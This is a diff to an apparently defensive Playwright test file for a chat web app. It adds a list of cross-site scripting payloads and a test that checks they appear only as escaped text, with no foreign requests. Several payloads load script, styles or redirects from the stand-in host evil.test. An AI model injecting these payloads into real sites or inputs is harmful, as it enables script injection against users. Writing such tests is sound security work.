@@ -5,7 +5,8 @@ from playwright.async_api import BrowserContext, Page
 from tests.browser.chromium import chromium
 from tests.integration.http.serving import House, house
 from wakeful.cli.login import login_link
-from wakeful.models.scripted import Pause
+from wakeful.models.scripted import Pause, call, says
+from wakeful.vocabulary.errors import Permanent
 
 HOSTILE = "<img src=x onerror=alert(1)><script>alert(2)</script>"
 
@@ -49,6 +50,50 @@ async def test_a_link_signs_in_once_and_the_agent_answers_in_the_page():
     assert said == [HOSTILE, HOSTILE]
     assert told == "this link was used before, or is too old"
     assert wrong == []
+
+
+# Each tries to run something, to lead somewhere or to fetch something from elsewhere.
+PAYLOADS = (
+    "<svg/onload=alert(3)>",
+    "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe>",
+    "<a href=javascript:alert(5)>x</a><form action=//evil.test><button>go</button></form>",
+    "<style>@import '//evil.test/a.css'</style><link rel=stylesheet href=//evil.test/b.css>",
+    "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>",
+    "[x](javascript:alert(6)) [y](data:text/html,<script>alert(7)</script>)",
+    "![z](//evil.test/p.png)",
+    "</li></ul><script src=//evil.test/c.js></script>",
+    "`<b>` **<img src=//evil.test/q.png>** \n```\n</code></pre><script>alert(8)</script>\n```",
+    "{{constructor.constructor('alert(9)')()}} ${alert(10)} \u2028alert(11)",
+)
+
+
+async def test_whatever_is_said_asked_for_or_goes_wrong_is_text_in_the_page():
+    """T17: as words of people, of models, of tools, as names and as errors."""
+    attack = "\n\n".join([*PAYLOADS, HOSTILE])
+    using = says(attack, call(PAYLOADS[0], call_id="1", word=attack))
+    script = [attack, using, "then", Permanent(attack)]
+    async with house(script) as home, chromium() as context:
+        page = await signed_in(context, home)
+        wrong = watch(page)
+        page.on("request", lambda asked: _note_foreign(asked.url, home.url, wrong))
+        for number, payload in enumerate([attack, "use a tool", "fail"], start=1):
+            await page.fill("#text", payload)
+            await page.press("#text", "Enter")
+            await page.wait_for_selector(f"#chat li:nth-child({2 * number}):not(.waiting)")
+        made = await page.locator(
+            "#chat :is(script, iframe, svg, img, style, link, form, base, meta, a)"
+        ).count()
+        told = await page.inner_text("#chat")
+
+    assert made == 0
+    assert wrong == []
+    assert "<svg/onload=alert(3)>" in told
+    assert "javascript:alert(6)" in told
+
+
+def _note_foreign(asked: str, own: str, wrong: list[str]) -> None:
+    if not asked.startswith(own):
+        wrong.append(f"request: {asked}")
 
 
 async def test_a_link_in_an_open_page_signs_in_and_a_command_is_answered_for_good():
